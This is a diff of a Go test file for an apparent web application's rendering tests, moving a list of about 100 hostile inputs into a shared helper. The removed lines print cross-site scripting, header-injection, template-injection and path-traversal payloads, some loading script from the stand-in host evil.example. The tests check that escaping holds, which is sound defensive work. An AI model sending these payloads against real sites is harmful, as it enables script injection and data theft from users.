@@ -12,35 +12,9 @@ import (
 	"github.com/a-h/templ"
 	"golang.org/x/net/html"
 
+	"flickrkillr/ops/testenv"
 	"flickrkillr/schema/page"
 )
-
-// payloads are 100 texts that would run, load, close or turn something around where escaping fails.
-func payloads() []string {
-	attacks := []string{
-		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`,
-		`<svg/onload=alert(1)>`,
-		`<svg><script>alert&#40;1)</script></svg>`, `<iframe srcdoc="<script>alert(1)</script>">`,
-		`<math><mi xlink:href="javascript:alert(1)">`,
-		`<style>*{background:url(//evil.example)}</style>`, `<base href=//evil.example>`,
-		`<meta http-equiv=refresh content="0;url=//evil.example">`,
-		`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `JaVaScRiPt&colon;alert(1)`,
-		`data:text/html,<script>alert(1)</script>`,
-		`//evil.example/x`, `https://evil.example/"onmouseover="alert(1)`, `http://a@evil.example/`, `<!--`, `]]><x>`,
-		`&lt;script&gt;alert(1)&lt;/script&gt;`,
-		`{{7*7}}${7*7}<%= 7*7 %>`, "\x00<\x00script>alert(1)</script>", "\u202e<script>\u2066",
-		"\r\nSet-Cookie: a=b\r\n\r\n<b>", `../../../etc/passwd`,
-	}
-	breakouts := []string{"", `">`, `'>`,
-		`</title></textarea></script></style></noscript></template></select></option></a></bdi></p>-->`}
-	var all []string
-	for _, b := range breakouts {
-		for _, a := range attacks {
-			all = append(all, b+a)
-		}
-	}
-	return all
-}
 
 // pagesOf builds every page that shows what people wrote, with s in each field but those shown as prose, and prose in
 // those.
@@ -93,13 +67,13 @@ func shapeOf(d document) []string {
 func TestHostileText(t *testing.T) {
 	t.Parallel()
 	site := testSite(t)
-	if n := len(payloads()); n != 100 {
+	if n := len(testenv.HostileTexts()); n != 100 {
 		t.Fatalf("%d payloads, want 100", n)
 	}
 	plain := pagesOf(site, "word", "word")
 	for i := range plain {
 		want := shapeOf(render(t, plain[i]))
-		for _, s := range payloads() {
+		for _, s := range testenv.HostileTexts() {
 			d := render(t, pagesOf(site, s, "word")[i])
 			if got := shapeOf(d); !slices.Equal(got, want) {
 				t.Fatalf("page %d with %q has other elements:\n%q\nwant\n%q", i, s, got, want)
@@ -114,7 +88,7 @@ func TestHostileText(t *testing.T) {
 func TestHostileProse(t *testing.T) {
 	t.Parallel()
 	site := testSite(t)
-	for _, s := range payloads() {
+	for _, s := range testenv.HostileTexts() {
 		for _, component := range pagesOf(site, "word", s+"\n"+s) {
 			d := render(t, component)
 			d.count("script[src]", 1)
